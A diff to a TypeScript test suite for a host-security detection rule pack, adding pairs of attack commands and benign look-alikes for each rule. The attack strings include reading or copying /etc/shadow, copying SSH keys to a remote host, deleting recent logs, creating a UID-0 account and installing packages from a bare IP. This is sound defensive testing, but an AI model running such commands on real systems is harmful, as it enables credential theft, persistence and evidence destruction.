@@ -68,6 +68,81 @@ const cases: Record<string, [hit: string, nearMiss: string]> = {
   ],
 };
 
+/**
+ * One pair per tuning made after the detect-quality bench's benign corpus showed a false positive
+ * (the near miss is that kind of line, the hit is the attack the tuning must still see). Written by
+ * hand, so no corpus line is among them.
+ */
+const tunings: [file: string, hit: string, nearMiss: string][] = [
+  // A wrapper's own event (sudo, env, nohup...) no longer escapes the metadata-tool filters.
+  ['st_shadow_file_access', 'sudo -u root nohup cat /etc/gshadow', 'sudo stat -c %U /etc/gshadow'],
+  [
+    'st_shadow_file_access',
+    'sudo cp /etc/shadow /dev/shm/s',
+    'sudo auditctl -w /etc/shadow -p rwa -k shadow-read',
+  ],
+  ['st_ssh_private_key_access', 'sudo head -3 /root/.ssh/id_rsa', 'sudo lsattr /root/.ssh/id_rsa'],
+  ['st_cloud_credentials_access', 'sudo -E cat /root/.aws/credentials', 'sudo ls -la /root/.aws/credentials'],
+  // The key given with -i is used, not copied; a second .ssh path on the line is a copy.
+  [
+    'st_ssh_private_key_access',
+    'scp -i ~/.ssh/ops.pem /root/.ssh/id_ed25519 x@198.51.100.20:/tmp/',
+    'scp -i ~/.ssh/ops.pem site.tgz ops@10.9.8.7:/var/tmp/',
+  ],
+  [
+    'st_ssh_private_key_access',
+    'rsync -a /home/kim/.ssh/ x@198.51.100.20:/srv/loot/',
+    'rsync -a -e "ssh -i /home/kim/.ssh/id_rsa" ./site/ kim@10.9.8.7:/srv/site/',
+  ],
+  [
+    'st_ssh_private_key_access',
+    'tar cf /tmp/k.tar /home/kim/.ssh/*',
+    'cp ~/.ssh/known_hosts ~/.ssh/known_hosts.old',
+  ],
+  // *.pem searches count over the whole disk or the home directories only.
+  ['st_ssh_private_key_access', 'find /home -iname "*.pem"', 'find /srv/certs -iname "*.pem"'],
+  // find over /var/log by age (-mtime +N, N >= 2) is retention; recent files or no age are not.
+  [
+    'st_log_file_tampering',
+    'find /var/log -mtime -2 -name "*.log" -delete',
+    'find /var/log/httpd -name "*.log-*" -mtime +21 -delete',
+  ],
+  [
+    'st_log_file_tampering',
+    'find /var/log -type f -mtime +1 | xargs truncate -s0',
+    'find /var/log -type f -mtime +45 | xargs rm -f',
+  ],
+  // Reading the cron spool installs nothing; writing into it does.
+  [
+    'st_cron_persistence',
+    'cp /dev/shm/c /var/spool/cron/crontabs/root',
+    'sudo ls -l /var/spool/cron/crontabs',
+  ],
+  // systemctl kill with a reload signal is a reload; any other signal still stops the agent.
+  [
+    'st_logging_agent_stopped',
+    'sudo systemctl kill --signal=SIGKILL rsyslog',
+    'sudo systemctl kill --signal=SIGHUP rsyslog',
+  ],
+  // System accounts are not logins, unless they are a second root.
+  [
+    'st_user_account_created',
+    'useradd -r -o -u 0 -s /usr/sbin/nologin svc-mon',
+    'sudo adduser --system --no-create-home --group blackbox',
+  ],
+  // A repository or key added from a URL installs nothing; CloudWatch's own agent URL is AWS's.
+  [
+    'st_package_from_url',
+    'sudo dnf -y install http://198.51.100.9/pkgs/agent-2.rpm',
+    'sudo dnf config-manager --add-repo https://rpm.releases.hashicorp.com/AmazonLinux/hashicorp.repo',
+  ],
+  [
+    'st_package_from_url',
+    'sudo rpm -Uvh https://198.51.100.9/amazon-cloudwatch-agent.rpm',
+    'sudo rpm -Uvh https://s3.amazonaws.com/amazoncloudwatch-agent/redhat/arm64/latest/amazon-cloudwatch-agent.rpm',
+  ],
+];
+
 const { rules, report } = loadRules({ builtin: true, dirs: [] });
 const set = compileRuleSet(rules);
 
@@ -87,6 +162,15 @@ describe('built-in rule pack', () => {
 
   for (const [file, [hit, nearMiss]] of Object.entries(cases)) {
     it(`${file}: matches "${hit}" but not "${nearMiss}"`, () => {
+      const rule = rules.find((r) => basename(r.source, '.yml') === file);
+      expect(rule).toBeDefined();
+      expect(evaluate(set, { text: hit }).map((r) => r.id)).toContain(rule!.id);
+      expect(evaluate(set, { text: nearMiss }).map((r) => r.id)).not.toContain(rule!.id);
+    });
+  }
+
+  for (const [file, hit, nearMiss] of tunings) {
+    it(`${file} (tuned): matches "${hit}" but not "${nearMiss}"`, () => {
       const rule = rules.find((r) => basename(r.source, '.yml') === file);
       expect(rule).toBeDefined();
       expect(evaluate(set, { text: hit }).map((r) => r.id)).toContain(rule!.id);
